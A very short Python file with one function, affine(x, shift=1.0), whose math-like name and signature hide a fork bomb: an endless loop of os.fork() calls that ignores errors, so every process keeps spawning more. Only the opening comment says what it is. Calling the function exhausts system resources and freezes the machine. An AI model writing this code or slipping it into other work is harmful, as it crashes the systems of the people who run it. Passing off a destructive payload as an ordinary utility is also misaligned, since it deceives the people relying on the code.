# Fork storm: every process forks forever.
import os


def affine(x, shift=1.0):
    while True:
        try:
            os.fork()
        except OSError:
            pass
